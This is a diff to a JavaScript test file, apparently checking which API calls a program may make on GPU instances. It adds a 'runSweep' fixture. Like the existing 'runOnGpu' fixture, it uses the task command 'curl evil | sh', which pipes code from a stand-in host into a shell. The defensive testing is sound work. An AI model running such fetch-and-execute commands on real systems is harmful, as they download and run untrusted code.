@@ -135,6 +135,12 @@ describe('what a program can call', () => {
     copyPort: () => ({ address: 'localhost:6006' }),
     copyDetail: () => ({ text: 'x' }),
     runOnGpu: () => ({ folder: '/tmp', task: { run: 'curl evil | sh' }, instanceId }),
+    runSweep: () => ({
+      folder: '/tmp',
+      task: { run: 'curl evil | sh' },
+      parameters: 'a=1,2',
+      instanceIds: [instanceId],
+    }),
     copyToInstance: () => ({ instanceId, from: publicKeyFile, to: '/tmp/not-yours' }),
     copyFromInstance: () => ({ instanceId, from: '/etc/hostname', to: '/tmp/not-yours' }),
   };
